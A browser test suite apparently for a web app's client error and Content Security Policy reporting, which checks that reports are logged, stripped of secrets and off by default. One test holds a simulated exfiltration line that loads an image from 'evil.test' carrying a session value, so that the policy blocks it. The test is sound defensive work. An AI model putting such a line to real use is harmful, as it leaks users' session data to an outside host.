import { afterAll, afterEach, describe, expect, it } from 'vitest'
import { closeBrowser, settled } from './support/browser.js'
import { signedIn } from './support/dashboard.js'
import { startServer, type HostServer } from './support/server.js'

let server: HostServer
afterEach(() => server.stop())
afterAll(closeBrowser)

/** What the log has of reports. */
const reports = () =>
  server
    .output()
    .split('\n')
    .filter((line) => line.includes('"kind":'))
    .map((line) => JSON.parse(line) as Record<string, unknown>)

describe('S-REP-01 a browser whose page goes wrong', () => {
  it('tells of an error that nobody caught once, by panel and build, without secrets', async () => {
    server = await startServer({ CLIENT_REPORTS: 'on', LOG_FORMAT: 'json' })
    const { page, close } = await signedIn(server, '/project/images', 'demo', { allow: [/row \d is broken/] })
    await page.evaluate(() => {
      for (let times = 0; times < 3; times++)
        setTimeout(() => {
          throw new Error('row 7 is broken, password=hunter2')
        })
    })
    await expect.poll(reports).toHaveLength(1)
    expect(reports()[0]).toMatchObject({ kind: 'error', level: 'warn', page: '/project/images' })
    expect(reports()[0]?.['build']).toMatch(/^index-[\w-]+\.js$/)
    expect(server.output()).not.toContain('hunter2')
    await close()
  })

  it('tells what its content policy has stopped', async () => {
    server = await startServer({ CLIENT_REPORTS: 'on', LOG_FORMAT: 'json' })
    const { page, close } = await signedIn(server, '/project/images', 'demo', { allow: [/Content Security Policy/] })
    await page.evaluate(() => {
      const image = new Image()
      image.src = 'https://evil.test/collect?session=hunter2'
    })
    await expect.poll(reports).toHaveLength(1)
    expect(reports()[0]).toMatchObject({ kind: 'csp', directive: 'img-src' })
    expect(server.output()).not.toContain('hunter2')
    await close()
  })

  it('tells nobody where the operator has not asked for it', async () => {
    server = await startServer({ LOG_FORMAT: 'json' })
    const { page, close } = await signedIn(server, '/project/images', 'demo', { allow: [/row \d is broken/] })
    await page.evaluate(() => setTimeout(() => Promise.reject(new Error('row 7 is broken'))))
    const answered = page.waitForResponse(/\/api\//)
    await page.reload()
    await answered
    await settled(page)
    expect(server.output()).not.toContain('stratus-reports')
    await close()
  })
})
